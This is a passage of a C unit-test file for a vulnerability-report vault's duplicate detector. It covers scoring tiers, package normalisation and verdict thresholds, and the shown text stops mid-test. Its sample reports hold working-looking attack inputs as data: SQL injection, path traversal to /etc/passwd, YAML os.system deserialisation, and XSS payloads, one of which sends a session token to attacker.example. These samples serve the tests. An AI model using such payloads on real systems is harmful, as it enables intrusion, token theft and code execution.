/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Duplicate detection (vault/al_dedup.h, issue 6).
 *
 * The scoring is pure: each pair is built from a manifest (jansson) whose
 * terms come from al_dedup_sketch with a fixed key, and compared against a
 * small corpus (eight unrelated reports and the pair) that gives the
 * document frequencies.  Each tier is pinned: exact (a shared attachment;
 * not a key file, not an empty file), structural (package names across
 * normalisation, disjoint ranges, versions in common, class and CWE),
 * textual (a paraphrase against two different bugs of one endpoint
 * family: "similar != same"), reporter (said, not scored), and the
 * verdict thresholds.
 *
 * The vault's side runs on a ledger without gpg (as test_triage.c does):
 * import events with sketches, the candidates best first, the index
 * after a revision equal to a rebuild, and the decisions (dup, undup)
 * with their refusals.  The commands end to end: tests/cli/vault_dedup.sh.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "al_dedup.h"
#include "al_hash.h"
#include "al_ledger.h"
#include "al_triage.h"
#include "al_vault.h"

static const uint8_t key[AL_TERMS_KEY_LEN] = {
	0x64, 0x65, 0x64, 0x75, 0x70, 0x20, 0x74, 0x65,
	0x73, 0x74, 0x20, 0x6b, 0x65, 0x79, 0x21, 0x21,
};

#define EMPTY_SHA \
	"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define SHA_POC \
	"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"
#define SHA_KEY \
	"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

/* One package's affected versions: [introduced, fixed) of range type. */
#define AFF(eco, name, type, intro, fixed)                                  \
	"[{\"package\":{\"ecosystem\":\"" eco "\",\"name\":\"" name "\"},"  \
	"\"ranges\":[{\"type\":\"" type                                     \
	"\",\"events\":[{\"introduced\":\"" intro "\"},{\"fixed\":\"" fixed \
	"\"}]}]}]"
#define NPM(name, intro, fixed) AFF("npm", name, "SEMVER", intro, fixed)

/* ---- documents ----------------------------------------------------------- */

/* What a report is made of, as the manifest says it. */
struct spec {
	const char *title, *description, *steps;
	const char *affected; /* JSON array */
	const char *cls;
	const char *cwe;   /* JSON array */
	const char *files; /* JSON array */
	const char *contact;
	const char *signer;
	bool no_terms; /* imported before duplicate detection */
};

struct tdoc {
	char id[40];
	json_t *meta;
	struct al_terms terms;
	struct al_dedup_doc d;
};

static json_t *parse(const char *text)
{
	json_error_t jerr;
	json_t *v = json_loads(text, JSON_DECODE_ANY, &jerr);

	if (!v)
		fail_msg("test input does not parse: %s: %s", jerr.text, text);
	return v;
}

/* The manifest of s (the vault's metas row holds the same fields but for
 * the texts, which compare does not read). */
static json_t *manifest_of(const char *id, const struct spec *s)
{
	json_t *m = json_object();

	json_object_set_new(m, "id", json_string(id));
	json_object_set_new(m, "project", json_string("notely"));
	json_object_set_new(m, "created", json_string("2026-11-01T00:00:00Z"));
	json_object_set_new(m, "title", json_string(s->title));
	if (s->description)
		json_object_set_new(m, "description",
				    json_string(s->description));
	if (s->steps)
		json_object_set_new(m, "steps", json_string(s->steps));
	if (s->affected)
		json_object_set_new(m, "affected", parse(s->affected));
	if (s->cls)
		json_object_set_new(m, "class", json_string(s->cls));
	if (s->cwe)
		json_object_set_new(m, "cwe", parse(s->cwe));
	json_object_set_new(m, "files", parse(s->files ? s->files : "[]"));
	json_object_set_new(
		m, "reporter",
		json_pack("{s:s, s:s}", "name", "R", "credit", "public"));
	if (s->contact)
		json_object_set_new(json_object_get(m, "reporter"), "contact",
				    json_string(s->contact));
	return m;
}

/* Terms from the sketch the vault would keep (al_dedup_sketch), decoded. */
static void terms_of(const uint8_t k[AL_TERMS_KEY_LEN], const json_t *m,
		     struct al_terms *t)
{
	struct al_error err = {0};
	uint8_t *buf = NULL;
	size_t len = 0;

	if (al_dedup_sketch(k, m, &buf, &len, &err) ||
	    al_terms_decode(buf, len, t, &err))
		fail_msg("sketch: %s", err.msg);
	free(buf);
}

static void doc_make(struct tdoc *t, const char *id, const struct spec *s)
{
	memset(t, 0, sizeof(*t));
	snprintf(t->id, sizeof(t->id), "%s", id);
	t->meta = manifest_of(id, s);
	terms_of(key, t->meta, &t->terms);
	t->d = (struct al_dedup_doc){t->id, t->meta, s->signer,
				     s->no_terms ? NULL : &t->terms};
}

static void doc_free(struct tdoc *t)
{
	json_decref(t->meta);
	al_terms_free(&t->terms);
	memset(t, 0, sizeof(*t));
}

/* ---- the corpus: eight unrelated reports of the same product ------------- */

static const struct spec background[] = {
	{"SQL injection in the search sort parameter",
	 "GET /api/v1/search?sort= is concatenated into the ORDER BY clause "
	 "of the query in SearchController.rb, so a member can read any "
	 "table with a boolean-based payload.",
	 "1. Request /api/v1/search?q=a&sort=(CASE WHEN 1=1 THEN id ELSE "
	 "title END)\n2. Compare the orderings.",
	 NPM("notely", "2.0.0", "2.4.3"), "sqli", "[\"CWE-89\"]", NULL,
	 "sam@example.org", NULL, false},
	{"CSRF on the account settings form changes the e-mail address",
	 "The settings form posts to /account/settings without any token and "
	 "the session cookie is SameSite=None, so a page on another site can "
	 "change a user's e-mail and then reset the password.",
	 "Host an auto-submitting form that posts email=attacker@example.com "
	 "to /account/settings and visit it while logged in.",
	 NPM("notely", "1.0.0", "2.4.0"), "csrf", "[\"CWE-352\"]", NULL,
	 "kim@example.org", NULL, false},
	{"Path traversal in attachment download",
	 "The download handler joins the name parameter to the uploads "
	 "folder without normalising it; ../ sequences escape and any file "
	 "the server can read is returned, /etc/passwd included.",
	 "curl 'https://notely.example/files/download?name=../../../../etc/"
	 "passwd'",
	 NPM("notely-server", "3.0.0", "3.1.4"), "other", "[\"CWE-22\"]", NULL,
	 "lee@example.org", NULL, false},
	{"Members can make themselves workspace owners",
	 "PATCH /api/v1/profile accepts a role attribute and the serializer "
	 "permits it, so any member can set role=owner on their own profile "
	 "and take over the workspace billing and members.",
	 "Send PATCH /api/v1/profile with {\"role\": \"owner\"} using a "
	 "member's token.",
	 NPM("notely", "2.1.0", "2.4.3"), "privilege-escalation",
	 "[\"CWE-269\"]", NULL, "ana@example.org", NULL, false},
	{"Open redirect after login through return_to",
	 "The login page redirects to the return_to query parameter after a "
	 "successful sign-in without checking the host, which helps phishing "
	 "pages look legitimate.",
	 "Open /login?return_to=https://evil.example and sign in.",
	 NPM("notely", "1.5.0", "2.3.0"), "other", "[\"CWE-601\"]", NULL,
	 "max@example.org", NULL, false},
	{"Webhook parser exhausts memory on nested JSON",
	 "The webhook receiver parses request bodies with no depth limit; a "
	 "payload of 100000 nested arrays makes the worker allocate several "
	 "gigabytes and get killed, which stops every integration.",
	 "python3 -c \"print('['*100000 + ']'*100000)\" | curl --data-binary "
	 "@- https://notely.example/hooks/incoming",
	 AFF("PyPI", "notely-hooks", "ECOSYSTEM", "0.1", "0.9.2"), "other",
	 "[\"CWE-674\"]", NULL, "eve@example.org", NULL, false},
	{"Reflected XSS in the search page",
	 "The q parameter of /search is echoed into the page heading without "
	 "escaping by the server-side template search.html.erb.",
	 "Visit /search?q=<script>alert(document.domain)</script>",
	 NPM("notely", "2.2.0", "2.4.2"), "xss", "[\"CWE-79\"]", NULL,
	 "ola@example.org", NULL, false},
	{"Remote code execution through YAML import",
	 "Importing a board from a YAML file uses yaml.load with the full "
	 "loader, so a crafted file with a !!python/object/apply tag runs "
	 "commands on the import worker.",
	 "Upload a board.yml holding !!python/object/apply:os.system "
	 "[\"id > /tmp/pwned\"] on the import page.",
	 AFF("PyPI", "notely-import", "ECOSYSTEM", "1.0", "1.3.1"), "rce",
	 "[\"CWE-502\"]", NULL, "ivy@example.org", NULL, false},
};

#define NBG (sizeof(background) / sizeof(background[0]))

static struct tdoc bg[NBG];

struct corpus {
	const struct tdoc *v[NBG + 8];
	size_t n;
};

static uint32_t corpus_df(uint32_t term, void *ctx)
{
	const struct corpus *c = ctx;
	uint32_t df = 0;

	for (size_t i = 0; i < c->n; i++)
		df += al_terms_find(&c->v[i]->terms, term) != NULL;
	return df;
}

/* The background and the given documents (NULL-terminated). */
static void corpus_make(struct corpus *c, ...)
{
	va_list ap;
	const struct tdoc *t;

	memset(c, 0, sizeof(*c));
	for (size_t i = 0; i < NBG; i++)
		c->v[c->n++] = &bg[i];
	va_start(ap, c);
	while ((t = va_arg(ap, const struct tdoc *)))
		c->v[c->n++] = t;
	va_end(ap);
}

static int group_setup(void **state)
{
	char id[40];

	(void)state;
	for (size_t i = 0; i < NBG; i++) {
		snprintf(id, sizeof(id), "%08zx-0000-4000-8000-%012zx", i, i);
		doc_make(&bg[i], id, &background[i]);
	}
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	for (size_t i = 0; i < NBG; i++)
		doc_free(&bg[i]);
	return 0;
}

/* ---- comparing ----------------------------------------------------------- */

static bool verbose(void)
{
	return getenv("AL_TEST_VERBOSE") != NULL;
}

static void show(const char *what, const struct al_dup_match *m)
{
	if (!verbose())
		return;
	printf("# %s: score %.3f", what, m->score);
	for (int i = 0; i < AL_DF_COUNT; i++)
		printf(" %s=%.3f", al_dedup_feature_names[i], m->features[i]);
	printf("\n");
	for (int a = 0; a < AL_AXIS_COUNT; a++)
		if (m->axes[a].set)
			printf("#   %s %.3f: %s\n",
			       al_dup_axis_name((enum al_dup_axis_id)a),
			       m->axes[a].score, m->axes[a].why);
}

/* What every comparison must hold: a score in [0, 1], the verdict its
 * thresholds give, features in their ranges, axis scores in [0, 1]. */
static void check_match(const struct al_dup_match *m)
{
	enum al_dup_verdict want = m->score >= AL_DUP_LIKELY_AT ? AL_DUP_LIKELY
				   : m->score >= AL_DUP_POSSIBLE_AT
					   ? AL_DUP_POSSIBLE
					   : AL_DUP_NONE;

	if (!(m->score >= 0 && m->score <= 1))
		fail_msg("score %f is outside [0, 1]", m->score);
	if (m->verdict != want)
		fail_msg("score %.4f has verdict %d, want %d", m->score,
			 m->verdict, want);
	for (int i = 0; i < AL_DF_COUNT; i++)
		if (!(m->features[i] >= -1 && m->features[i] <= 1))
			fail_msg("feature %s is %f", al_dedup_feature_names[i],
				 m->features[i]);
	for (int a = 0; a < AL_AXIS_COUNT; a++)
		if (!(m->axes[a].score >= 0 && m->axes[a].score <= 1))
			fail_msg("axis %s scores %f",
				 al_dup_axis_name((enum al_dup_axis_id)a),
				 m->axes[a].score);
}

/* Compare q with c in a corpus of the background, q, c and other (when
 * not NULL). */
static struct al_dup_match cmp_among(const struct tdoc *q, const struct tdoc *c,
				     const struct tdoc *other, const char *what)
{
	struct al_error err = {0};
	struct al_dup_match m;
	struct corpus cp;
	struct al_dedup_corpus corpus;

	corpus_make(&cp, q, c, other, NULL);
	corpus = (struct al_dedup_corpus){cp.n, corpus_df, &cp};
	memset(&m, 0x5a, sizeof(m));
	if (al_dedup_compare(&q->d, &c->d, &corpus, &m, &err))
		fail_msg("compare: %s", err.msg);
	show(what, &m);
	check_match(&m);
	return m;
}

static struct al_dup_match cmp(const struct tdoc *q, const struct tdoc *c,
			       const char *what)
{
	return cmp_among(q, c, NULL, what);
}

/* Compare two specs (ids Q and C). */
static struct al_dup_match cmp_specs(const struct spec *a, const struct spec *b,
				     const char *what)
{
	struct tdoc q, c;
	struct al_dup_match m;

	doc_make(&q, "11111111-1111-4111-8111-111111111111", a);
	doc_make(&c, "22222222-2222-4222-8222-222222222222", b);
	m = cmp(&q, &c, what);
	doc_free(&q);
	doc_free(&c);
	return m;
}

static void why_has(const struct al_dup_match *m, enum al_dup_axis_id a,
		    const char *part)
{
	if (!m->axes[a].set)
		fail_msg("axis %s is not set (want '%s')", al_dup_axis_name(a),
			 part);
	if (!strstr(m->axes[a].why, part))
		fail_msg("axis %s says '%s', which lacks '%s'",
			 al_dup_axis_name(a), m->axes[a].why, part);
}

static void why_lacks(const struct al_dup_match *m, enum al_dup_axis_id a,
		      const char *part)
{
	if (m->axes[a].set && strstr(m->axes[a].why, part))
		fail_msg("axis %s says '%s', which has '%s'",
			 al_dup_axis_name(a), m->axes[a].why, part);
}

/* ---- the texts of the tier tests ----------------------------------------- */

/* Two reports of different bugs, far apart: the baseline an exact match
 * lifts. */
static const struct spec far_a = {
	"Session cookie lacks the Secure flag",
	"The session cookie set after login has no Secure attribute, so it "
	"goes out over plain HTTP when a user follows an http:// link.",
	"Log in, then open http://notely.example/ and watch the request.",
	NPM("notely", "1.0.0", "2.4.3"),
	"other",
	"[\"CWE-614\"]",
	NULL,
	"una@example.org",
	NULL,
	false};
static const struct spec far_b = {
	"Unbounded export job fills the disk",
	"Exporting a workspace to ZIP writes every revision of every page "
	"into a temporary folder that is never cleaned up; repeated exports "
	"fill the volume and the service stops.",
	"Run the export from the admin panel twenty times in a row.",
	AFF("PyPI", "notely-export", "ECOSYSTEM", "0.5", "0.7.1"),
	"other",
	"[\"CWE-400\"]",
	NULL,
	"vic@example.org",
	NULL,
	false};

/* A stored XSS in the body of a note (q), the same bug in other words
 * (para: a different reporter, who shares the identifiers, the endpoint,
 * the parameter and the version), and a different bug of the same
 * endpoint family (title: the title of a note, rendered elsewhere). */
static const struct spec xss_body = {
	"Stored XSS in note body via /api/v1/notes",
	"Notely 2.4.1 saves the `body` field of POST /api/v1/notes as it is, "
	"and NoteView.jsx renders it with dangerouslySetInnerHTML. Any "
	"workspace member can store a script in a note; it runs in the "
	"browser of everyone who opens that note, admins included, and can "
	"read their session token from localStorage.",
	"1. Log in as a member.\n"
	"2. POST /api/v1/notes with {\"title\": \"hi\", \"body\": \"<img "
	"src=x onerror=alert(localStorage.token)>\"}.\n"
	"3. Open the note as an admin: the alert shows the token.",
	NPM("notely", "2.0.0", "2.4.2"),
	"xss",
	"[\"CWE-79\"]",
	NULL,
	"alice@example.net",
	NULL,
	false};
static const struct spec xss_body_para = {
	"HTML injection in notes: body rendered with dangerouslySetInnerHTML",
	"NoteView.jsx inserts the note `body` into the DOM through "
	"dangerouslySetInnerHTML without sanitising it, and the /api/v1/notes "
	"endpoint accepts arbitrary markup in that field. A user allowed to "
	"write notes therefore gets JavaScript executed for every reader and "
	"can steal localStorage.token. Reproduced on version 2.4.1.",
	"Create a note via /api/v1/notes whose body is <svg "
	"onload=fetch('https://attacker.example/?t='+localStorage.token)>, "
	"then view it from a second account.",
	NPM("notely", "2.0.0", "2.4.2"),
	"xss",
	"[\"CWE-79\"]",
	NULL,
	"bob@example.com",
	NULL,
	false};
static const struct spec xss_title = {
	"XSS through note titles in the notification dropdown",
	"When a note is created, its `title` is copied into a notification. "
	"NotificationItem.jsx builds the dropdown entry with innerHTML and "
	"string concatenation, so markup in a title sent to POST "
	"/api/v1/notes runs for every watcher of the workspace when they "
	"open their notifications. The note page itself escapes the title "
	"correctly. Seen on 2.4.1.",
	"1. POST /api/v1/notes with the title <img src=x "
	"onerror=alert(document.domain)> and any body.\n"
	"2. Log in as another member and click the bell icon.",
	NPM("notely", "2.0.0", "2.4.2"),
	"xss",
	"[\"CWE-79\"]",
	NULL,
	"carol@example.org",
	NULL,
	false};

/* ---- names and thresholds ------------------------------------------------ */

static void test_dedup__feature_names_in_enum_order(void **state)
{
	static const char *const want[AL_DF_COUNT] = {
		"text",      "rare",    "vshare", "vdisjoint",
		"rdisjoint", "package", "class",  "cwe",
	};

	(void)state;
	assert_int_equal(AL_DF_COUNT, 8);
	for (int i = 0; i < AL_DF_COUNT; i++)
		assert_string_equal(al_dedup_feature_names[i], want[i]);
	assert_int_equal(AL_DF_TEXT, 0);
	assert_int_equal(AL_DF_CWE, 7);
}

static void test_dedup__axis_names_in_order(void **state)
{
	(void)state;
	assert_string_equal(al_dup_axis_name(AL_AXIS_EXACT), "exact");
	assert_string_equal(al_dup_axis_name(AL_AXIS_STRUCTURAL), "structural");
	assert_string_equal(al_dup_axis_name(AL_AXIS_TEXTUAL), "textual");
	assert_string_equal(al_dup_axis_name(AL_AXIS_REPORTER), "reporter");
	assert_string_equal(al_dup_axis_name(AL_AXIS_COUNT), "?");
}

static void test_dedup__verdict_names_and_thresholds(void **state)
{
	(void)state;
	assert_string_equal(al_dup_verdict_name(AL_DUP_LIKELY), "likely");
	assert_string_equal(al_dup_verdict_name(AL_DUP_POSSIBLE), "possible");
	assert_null(al_dup_verdict_name(AL_DUP_NONE));
	/* the figures `dups --help` and docs/dedup.md give */
	assert_true(AL_DUP_POSSIBLE_AT == 0.30);
	assert_true(AL_DUP_LIKELY_AT == 0.6);
	assert_true(AL_DUP_POSSIBLE_AT < AL_DUP_LIKELY_AT);
}

/* ---- exact --------------------------------------------------------------- */

static void test_dedup__exact_shared_attachment_is_likely(void **state)
{
	struct spec a = far_a, b = far_b;
	struct al_dup_match base, m;

	(void)state;
	base = cmp_specs(&a, &b, "far apart");
	assert_false(base.axes[AL_AXIS_EXACT].set);
	assert_true(base.score < AL_DUP_POSSIBLE_AT);
	/* the same proof of concept, under another name in the other */
	a.files = "[{\"path\":\"attachments/poc.html\",\"size\":42,"
		  "\"sha256\":\"" SHA_POC "\"}]";
	b.files = "[{\"path\":\"attachments/notes.txt\",\"size\":7,"
		  "\"sha256\":\"" SHA_KEY "\"},"
		  "{\"path\":\"attachments/exploit.html\",\"size\":42,"
		  "\"sha256\":\"" SHA_POC "\"}]";
	m = cmp_specs(&a, &b, "a shared attachment");
	assert_true(m.score >= 0.99);
	assert_int_equal(m.verdict, AL_DUP_LIKELY);
	why_has(&m, AL_AXIS_EXACT,
		"an attachment in both: attachments/poc.html");
	assert_true(m.axes[AL_AXIS_EXACT].score == 1);
	/* the features are the text's and structure's: the file is not one */
	for (int i = 0; i < AL_DF_COUNT; i++)
		assert_true(m.features[i] == base.features[i]);
}

static void test_dedup__exact_key_file_does_not_count(void **state)
{
	struct spec a = far_a, b = far_b;
	struct al_dup_match base, m;

	(void)state;
	base = cmp_specs(&a, &b, "far apart");
	/* the same reply key in both (a researcher's key is no finding) */
	a.files = "[{\"path\":\"keys/reply.asc\",\"size\":640,"
		  "\"sha256\":\"" SHA_KEY "\"}]";
	b.files = a.files;
	m = cmp_specs(&a, &b, "the same key file");
	assert_false(m.axes[AL_AXIS_EXACT].set);
	assert_true(m.score == base.score);
	assert_int_equal(m.verdict, base.verdict);
	/* a key file in one, the same bytes as an attachment in the other,
	 * either way round */
	b.files = "[{\"path\":\"attachments/key.asc\",\"size\":640,"
		  "\"sha256\":\"" SHA_KEY "\"}]";
	m = cmp_specs(&a, &b, "key file vs attachment");
	assert_false(m.axes[AL_AXIS_EXACT].set);
	m = cmp_specs(&b, &a, "attachment vs key file");
	assert_false(m.axes[AL_AXIS_EXACT].set);
	assert_true(m.score < AL_DUP_POSSIBLE_AT);
}

static void test_dedup__exact_empty_file_does_not_count(void **state)
{
	struct spec a = far_a, b = far_b;
	struct al_dup_match m;

	(void)state;
	a.files = "[{\"path\":\"attachments/empty.txt\",\"size\":0,"
		  "\"sha256\":\"" EMPTY_SHA "\"}]";
	b.files = "[{\"path\":\"attachments/nothing.log\",\"size\":0,"
		  "\"sha256\":\"" EMPTY_SHA "\"}]";
	m = cmp_specs(&a, &b, "two empty files");
	assert_false(m.axes[AL_AXIS_EXACT].set);
	assert_true(m.score < AL_DUP_POSSIBLE_AT);
	assert_int_equal(m.verdict, AL_DUP_NONE);
}

/* ---- structural ---------------------------------------------------------- */

static void packages_are(const char *affected, const char *want)
{
	json_t *meta = json_pack("{s:o}", "affected", parse(affected));
	json_t *got = al_dedup_packages(meta);
	char *s = json_dumps(got, JSON_COMPACT);

	assert_non_null(s);
	if (strcmp(s, want))
		fail_msg("%s\n#  got: %s\n# want: %s", affected, s, want);
	free(s);
	json_decref(got);
	json_decref(meta);
}

#define PKG(eco, name) \
	"{\"package\":{\"ecosystem\":\"" eco "\",\"name\":\"" name "\"}}"

static void test_dedup__packages_normalised_per_ecosystem(void **state)
{
	json_t *none;

	(void)state;
	/* PyPI: case, and runs of - _ . as one - (PEP 503) */
	packages_are("[" PKG("PyPI", "Foo_Bar") "]", "[\"PyPI/foo-bar\"]");
	packages_are("[" PKG("PyPI", "foo-bar") "]", "[\"PyPI/foo-bar\"]");
	packages_are("[" PKG("PyPI", "FOO._-bar") "]", "[\"PyPI/foo-bar\"]");
	packages_are("[" PKG("PyPI", "Foo_Bar") "," PKG(
			     "PyPI", "foo.bar") "," PKG("PyPI", "foo--bar") "]",
		     "[\"PyPI/foo-bar\"]");
	/* Go: a major-version suffix names the same module */
	packages_are("[" PKG("Go", "example.com/m/v2") "]",
		     "[\"Go/example.com/m\"]");
	packages_are("[" PKG("Go", "example.com/m") "," PKG(
			     "Go", "example.com/m/v3") "]",
		     "[\"Go/example.com/m\"]");
	/* not a major version: kept */
	packages_are("[" PKG("Go", "gopkg.in/yaml.v3") "]",
		     "[\"Go/gopkg.in/yaml.v3\"]");
	packages_are("[" PKG("Go", "example.com/m/v2x") "]",
		     "[\"Go/example.com/m/v2x\"]");
	/* other ecosystems: case only; '_' is not '-' in npm */
	packages_are("[" PKG("npm", "Foo_Bar") "," PKG("npm", "foo-bar") "]",
		     "[\"npm/foo_bar\",\"npm/foo-bar\"]");
	/* the same name in two ecosystems is two packages */
	packages_are("[" PKG("npm", "notely") "," PKG("PyPI", "notely") "]",
		     "[\"npm/notely\",\"PyPI/notely\"]");
	/* entries without a package, an ecosystem or a name are skipped */
	packages_are(
		"[{\"versions\":[\"1.0\"]},{\"package\":{\"name\":\"x\"}},"
		"{\"package\":{\"ecosystem\":\"npm\"}}," PKG("npm", "y") "]",
		"[\"npm/y\"]");
	none = al_dedup_packages(NULL);
	assert_non_null(none);
	assert_int_equal(json_array_size(none), 0);
	json_decref(none);
}

static void test_dedup__package_rename_is_the_same_package(void **state)
{
	struct spec a = far_a, b = far_b;
	struct al_dup_match m, other;

	(void)state;
	a.affected = AFF("PyPI", "Foo_Bar", "ECOSYSTEM", "1.0", "1.4");
	b.affected = AFF("PyPI", "foo-bar", "ECOSYSTEM", "1.2", "1.5");
	m = cmp_specs(&a, &b, "PyPI Foo_Bar vs foo-bar");
	assert_true(m.features[AL_DF_PACKAGE] == 1);
	assert_true(m.features[AL_DF_RDISJOINT] == 0);
	why_has(&m, AL_AXIS_STRUCTURAL, "same package PyPI/foo-bar");

	a.affected = AFF("Go", "example.com/m/v2", "SEMVER", "2.0.0", "2.3.1");
	b.affected = AFF("Go", "example.com/m", "SEMVER", "0", "2.3.1");
	m = cmp_specs(&a, &b, "Go example.com/m/v2 vs example.com/m");
	assert_true(m.features[AL_DF_PACKAGE] == 1);
	why_has(&m, AL_AXIS_STRUCTURAL, "same package Go/example.com/m");

	/* npm does not fold '_' into '-': two packages */
	a.affected = NPM("foo_bar", "1.0.0", "1.4.0");
	b.affected = NPM("foo-bar", "1.0.0", "1.4.0");
	other = cmp_specs(&a, &b, "npm foo_bar vs foo-bar");
	assert_true(other.features[AL_DF_PACKAGE] == 0);
	why_has(&other, AL_AXIS_STRUCTURAL, "no package in common");
	/* the weight of a package in common is the model's (0 now): what
	 * counts is that the ranges are compared, which a rename must not
	 * stop */
	a.affected = AFF("PyPI", "Foo_Bar", "ECOSYSTEM", "1.0", "1.2");
	b.affected = AFF("PyPI", "foo.bar", "ECOSYSTEM", "2.0", "2.1");
	m = cmp_specs(&a, &b, "PyPI renamed, disjoint");
	assert_true(m.features[AL_DF_RDISJOINT] == 1);
}

static void test_dedup__disjoint_ranges_score_lower(void **state)
{
	struct spec q = xss_body, dis = xss_body_para, ovl = xss_body_para;
	struct al_dup_match md, mo;

	(void)state;
	/* no version in the texts: the ranges alone speak for versions */
	q.description =
		"The note body is rendered as HTML by NoteView.jsx with "
		"dangerouslySetInnerHTML, so a member stores a script that "
		"runs for every reader of the note.";
	dis.description = ovl.description =
		"NoteView.jsx puts the note body into the page through "
		"dangerouslySetInnerHTML without sanitising it; any member can "
		"plant JavaScript that runs for the people who read the note.";
	q.affected = NPM("notely", "1.0.0", "1.2.0");
	dis.affected = NPM("notely", "2.0.0", "2.1.0");
	ovl.affected = NPM("notely", "1.1.0", "1.3.0");
	md = cmp_specs(&q, &dis, "disjoint ranges");
	mo = cmp_specs(&q, &ovl, "overlapping ranges");
	assert_true(md.features[AL_DF_RDISJOINT] == 1);
	assert_true(mo.features[AL_DF_RDISJOINT] == 0);
	why_has(&md, AL_AXIS_STRUCTURAL, "affected versions do not overlap");
	why_lacks(&mo, AL_AXIS_STRUCTURAL, "do not overlap");
	/* everything else alike: both name versions, none in common */
	for (int i = 0; i < AL_DF_COUNT; i++)
		if (i != AL_DF_RDISJOINT)
			assert_true(md.features[i] == mo.features[i]);
	assert_true(md.features[AL_DF_VDISJOINT] == 1);
	assert_true(md.score < mo.score);
	assert_true(md.axes[AL_AXIS_STRUCTURAL].score <
		    mo.axes[AL_AXIS_STRUCTURAL].score);
}

static void test_dedup__versions_in_common(void **state)
{
	struct spec q = far_a, c = far_b;
	struct al_dup_match m;

	(void)state;
	/* q's fixed version; c writes it in its text, with a 'v' */
	q.affected = AFF("Go", "github.com/acme/avro", "SEMVER", "0", "2.33.0");
	c.affected = NULL;
	c.description = "Decoding a crafted block panics the reader. "
			"Upgrading to v2.33.0 makes it go away.";
	m = cmp_specs(&q, &c, "fixed version vs the text's v2.33.0");
	assert_true(m.features[AL_DF_VSHARE] == 1);
	assert_true(m.features[AL_DF_VDISJOINT] == 0);
	why_has(&m, AL_AXIS_STRUCTURAL, "1 version in common");

	/* both name versions, none in common */
	c.description = "Decoding a crafted block panics the reader. "
			"Still there in 2.34.1.";
	m = cmp_specs(&q, &c, "no version in common");
	assert_true(m.features[AL_DF_VSHARE] == 0);
	assert_true(m.features[AL_DF_VDISJOINT] == 1);
	why_has(&m, AL_AXIS_STRUCTURAL, "no version in common");

	/* one names none: neither feature */
	c.description = "Decoding a crafted block panics the reader.";
	m = cmp_specs(&q, &c, "no version in c");
	assert_true(m.features[AL_DF_VSHARE] == 0);
	assert_true(m.features[AL_DF_VDISJOINT] == 0);
	why_lacks(&m, AL_AXIS_STRUCTURAL, "version");

	/* "introduced 0" is no version: q names only 2.33.0 */
	c.description = "Decoding a crafted block panics the reader in "
			"every release since 0.";
	m = cmp_specs(&q, &c, "the digit 0 is not a version");
	assert_true(m.features[AL_DF_VSHARE] == 0);
}

static void test_dedup__class_and_cwe_relations(void **state)
{
	struct spec a = far_a, b = far_b;
	struct al_dup_match same, differ, m;

	(void)state;
	a.cls = b.cls = "xss";
	a.cwe = "[\"CWE-79\",\"CWE-80\"]";
	b.cwe = "[\"CWE-80\"]";
	same = cmp_specs(&a, &b, "same class and CWE");
	assert_true(same.features[AL_DF_CLASS] == 1);
	assert_true(same.features[AL_DF_CWE] == 1);
	why_has(&same, AL_AXIS_STRUCTURAL, "same class xss");
	why_has(&same, AL_AXIS_STRUCTURAL, "in both: CWE-80");

	b.cls = "sqli";
	b.cwe = "[\"CWE-89\"]";
	differ = cmp_specs(&a, &b, "different class and CWE");
	assert_true(differ.features[AL_DF_CLASS] == -1);
	assert_true(differ.features[AL_DF_CWE] == -1);
	why_has(&differ, AL_AXIS_STRUCTURAL, "classes differ (xss, sqli)");
	why_has(&differ, AL_AXIS_STRUCTURAL, "no CWE in common");
	/* the structural axis says they disagree; the score does not count
	 * it (weights fitted on the evaluation set: docs/dedup.md) but never
	 * counts it for the pair */
	assert_true(differ.axes[AL_AXIS_STRUCTURAL].score <
		    same.axes[AL_AXIS_STRUCTURAL].score);
	assert_true(differ.score <= same.score);

	/* "other" says nothing, nor does a missing class or CWE list */
	b.cls = "other";
	b.cwe = "[]";
	m = cmp_specs(&a, &b, "other, no CWE");
	assert_true(m.features[AL_DF_CLASS] == 0);
	assert_true(m.features[AL_DF_CWE] == 0);
	why_lacks(&m, AL_AXIS_STRUCTURAL, "class");
	why_lacks(&m, AL_AXIS_STRUCTURAL, "CWE");
	b.cls = NULL;
	b.cwe = NULL;
	m = cmp_specs(&a, &b, "no class");
	assert_true(m.features[AL_DF_CLASS] == 0);
	assert_true(m.features[AL_DF_CWE] == 0);
	assert_true(m.score >= differ.score && m.score <= same.score);
}

/* ---- textual ------------------------------------------------------------- */

static void test_dedup__paraphrase_beats_same_endpoint_family(void **state)
{
	struct tdoc q, para, title;
	struct al_dup_match mp, mt;

	(void)state;
	doc_make(&q, "11111111-1111-4111-8111-111111111111", &xss_body);
	doc_make(&para, "22222222-2222-4222-8222-222222222222", &xss_body_para);
	doc_make(&title, "33333333-3333-4333-8333-333333333333", &xss_title);
	/* the three in one corpus, as in a vault that holds them */
	mp = cmp_among(&q, &para, &title, "body xss, paraphrased");
	mt = cmp_among(&q, &title, &para, "body xss vs title xss");
	doc_free(&q);
	doc_free(&para);
	doc_free(&title);
	/* the same bug in other words: at least possible (a cosine of 0.44
	 * is where the evaluation set's duplicates and distinct pairs mix:
	 * likely asks for more, docs/dedup.md) */
	assert_true(mp.features[AL_DF_TEXT] > mt.features[AL_DF_TEXT]);
	assert_true(mp.score > mt.score);
	assert_int_not_equal(mp.verdict, AL_DUP_NONE);
	why_has(&mp, AL_AXIS_TEXTUAL, "text similarity");
	/* similar != same: one class, package, endpoint, versions, yet
	 * another bug */
	assert_true(mt.features[AL_DF_PACKAGE] == 1);
	assert_true(mt.features[AL_DF_CLASS] == 1);
	if (mt.verdict == AL_DUP_LIKELY)
		fail_msg("two different bugs of /api/v1/notes (body, title) "
			 "come out likely: score %.3f, text %.3f",
			 mt.score, mt.features[AL_DF_TEXT]);
}

static void test_dedup__identical_texts(void **state)
{
	struct spec b = xss_body;
	struct al_dup_match m;

	(void)state;
	b.contact = "someone.else@example.org";
	m = cmp_specs(&xss_body, &b, "identical");
	assert_true(m.features[AL_DF_TEXT] > 0.999);
	assert_true(m.axes[AL_AXIS_TEXTUAL].score > 0.999);
